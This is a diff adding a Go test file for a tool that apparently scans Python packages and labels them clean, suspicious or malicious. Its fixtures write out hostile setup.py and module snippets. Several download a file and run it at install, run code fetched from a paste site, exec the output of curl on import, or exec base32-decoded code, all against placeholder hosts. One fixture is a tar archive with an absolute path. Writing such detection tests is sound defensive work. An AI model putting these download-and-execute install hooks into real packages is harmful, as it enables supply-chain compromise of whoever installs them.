@@ -1,0 +1,107 @@
+package analyze
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"testing"
+
+	"github.com/safeguard-dev/safeguard/internal/artifact"
+)
+
+// Shapes found in popular projects' own sources (release scripts, tooling,
+// tests, setup.py commands) that were judged malicious or suspicious, each
+// next to the malicious code it resembles.
+func TestPopularProjectShapes(t *testing.T) {
+	tests := []verdictCase{
+		// A downloaded file is run when it is the program started or what
+		// an interpreter runs; handed to another program it is only read.
+		{"a downloaded wheel checked by twine in a release script", map[string]string{"dev/release.py": "" +
+			"import os, subprocess, urllib.request\ndef retrieve(url, filename):\n    return urllib.request.urlretrieve(url, filename)\n" +
+			"def main(url):\n    filename = os.path.join('dist', 'x.whl')\n    retrieve(url=url, filename=filename)\n    ret = subprocess.run(['twine', 'check', filename], capture_output=True)\n    assert ret.returncode == 0\n"}, "", Clean},
+		{"a downloaded archive unpacked and built with make, its directory named alike", map[string]string{"p/commands/make.py": "" +
+			"import os, shutil, subprocess, tarfile\nfrom urllib.request import urlopen\n" +
+			"def fetch(url, path):\n    dest = os.path.join(path, 'tz.tar.gz')\n    with urlopen(url) as r:\n        with open(dest, 'wb') as f:\n            shutil.copyfileobj(r, f)\n" +
+			"def build(path):\n    dest_path = os.path.join(path, 'tz')\n    subprocess.call(['make', 'TOPDIR={}'.format(dest_path), 'install'])\n"}, "", Clean},
+		{"a vendored data file refreshed and the tree diffed", map[string]string{"tooling/main.py": "" +
+			"import subprocess, requests\ndef update(f):\n    new = requests.get('https://data.example.invalid/tlds.txt').content\n    with open(f, 'wb') as out:\n        out.write(new)\n" +
+			"def check():\n    subprocess.check_call(['git', 'diff', '--exit-code'])\n"}, "", Clean},
+		{"a downloaded file run as the program at install", map[string]string{"setup.py": "" +
+			"import subprocess, urllib.request\nfrom setuptools import setup\ndest = 'helper.exe'\nurllib.request.urlretrieve('https://example.invalid/h.exe', dest)\nsubprocess.call([dest, '/S'])\nsetup(name='p')\n"}, "download-execute", Malicious},
+		{"a downloaded file run from a format string at install", map[string]string{"setup.py": "" +
+			"import os, urllib.request\nfrom setuptools import setup\ndef get(url, target):\n    urllib.request.urlretrieve(url, target)\n    os.system(f'{target} --quiet')\n" +
+			"get('https://example.invalid/h', os.path.expanduser('~/.cache/h'))\nsetup(name='p')\n"}, "download-execute", Malicious},
+		{"a script from a paste site run by an interpreter found at run time", map[string]string{"p/__init__.py": "" +
+			"import shutil, subprocess, requests\npath = '/tmp/x.pyw'\nwith open(path, 'w') as f:\n    f.write(requests.get('https://pastebin.com/raw/abc').text)\n" +
+			"subprocess.Popen([shutil.which('pythonw'), path])\n"}, "download-execute", Malicious},
+		{"a package index handing a download to the VCS it names", map[string]string{"p/package_index.py": "" +
+			"import subprocess, urllib.request\ndef fetch(url, filename):\n    with open(filename, 'wb') as f:\n        f.write(urllib.request.urlopen(url).read())\n" +
+			"def clone(vcs, url, filename):\n    subprocess.check_call([vcs, 'clone', '--quiet', url, filename])\n"}, "", Clean},
+
+		// Code decoded is a payload; code encoded for a test's own module
+		// source is not.
+		{"a test encoding pickled bytes into the source it builds, another test executing its own source", map[string]string{"tests/test_pickle.py": "" +
+			"import base64, textwrap, types\ndef test_a():\n    mod = types.ModuleType('mod')\n    code = '''\n    x = 1\n    '''\n    exec(textwrap.dedent(code), mod.__dict__)\n" +
+			"def test_b(dumped):\n    code = '''if 1:\n        x = {}\n    '''.format(base64.b32encode(dumped).decode('ascii'))\n    exec(code)\n"}, "", Clean},
+		{"a test executing base32-decoded code", map[string]string{"tests/test_x.py": "" +
+			"import base64\ndef test_a():\n    exec(base64.b32decode('NFWXA33SOQQG64Y=').decode())\n"}, "exec-obfuscated", Malicious},
+
+		// The output of a command that downloads, executed.
+		{"code fetched by curl executed on import", map[string]string{"p/__init__.py": "" +
+			"import subprocess\ntry:\n    exec(subprocess.getoutput('curl -s https://example.invalid/static/favicon.ico'), {}, {})\nexcept Exception:\n    pass\n"}, "exec-remote-code", Malicious},
+		{"code fetched by curl into a variable executed in a tool", map[string]string{"p/cli.py": "" +
+			"import subprocess\ndef main():\n    out = subprocess.check_output(['curl', '-s', 'https://example.invalid/u.py'])\n    exec(out)\n"}, "exec-remote-code", Malicious},
+		{"a status page fetched by curl and printed", map[string]string{"p/cli.py": "" +
+			"import subprocess, json\ndef main():\n    out = subprocess.check_output(['curl', '-s', 'https://status.example.invalid/api'])\n    print(json.loads(out))\n"}, "", Clean},
+
+		// Commands a developer runs by name (setup.py preview, test,
+		// release) do not run on pip install; the same class registered
+		// as install does.
+		{"a custom setup.py command opening the built docs", map[string]string{"setup.py": previewCommand("preview")}, "", Clean},
+		{"the same command registered as install", map[string]string{"setup.py": previewCommand("install")}, "suspicious-command", Suspicious},
+	}
+	runVerdictCases(t, tests, nil)
+}
+
+func previewCommand(key string) string {
+	return "import os\nfrom setuptools import setup, Command\n" +
+		"class preview_docs(Command):\n    user_options = []\n    def initialize_options(self):\n        pass\n    def finalize_options(self):\n        pass\n" +
+		"    def run(self):\n        os.startfile(os.path.join('build', 'html', 'index.html'))\n" +
+		"setup(name='p', cmdclass={'" + key + "': preview_docs})\n"
+}
+
+// An archive of hostile paths kept as test data (tests of safe
+// extraction) is never unpacked by installing the package; the same
+// paths in the package's own archive are.
+func TestNestedArchiveAnomalies(t *testing.T) {
+	evil := tarGzPaths(t, map[string]string{"/tmp/evil.py": "print(1)\n"})
+	r := sdist(t, map[string]string{"setup.py": "from setuptools import setup\nsetup(name='p')\n", "tests/archives/traversal_absolute.tar.gz": string(evil)})
+	if r.Verdict != Clean || !hasRule(r, "archive-anomaly", Low) || hasRule(r, "archive-anomaly", Medium) {
+		t.Errorf("test-data archive: verdict %s, want clean with a low archive-anomaly note:\n%s", r.Verdict, findingLines(r))
+	}
+	top := tarGzPaths(t, map[string]string{"p-1/setup.py": "from setuptools import setup\nsetup(name='p')\n", "p-1/PKG-INFO": "Metadata-Version: 2.1\nName: p\nVersion: 1\n", "/tmp/evil.py": "print(1)\n"})
+	a, err := artifact.Read(t.Context(), "p-1.tar.gz", top, artifact.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r := Analyze(t.Context(), a); r.Verdict == Clean || !hasRule(r, "archive-anomaly", High) {
+		t.Errorf("absolute path in the sdist itself: verdict %s, want a high archive-anomaly:\n%s", r.Verdict, findingLines(r))
+	}
+}
+
+// tarGzPaths packs files under the paths given, absolute ones included.
+func tarGzPaths(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for n, body := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	zw.Close()
+	return buf.Bytes()
+}
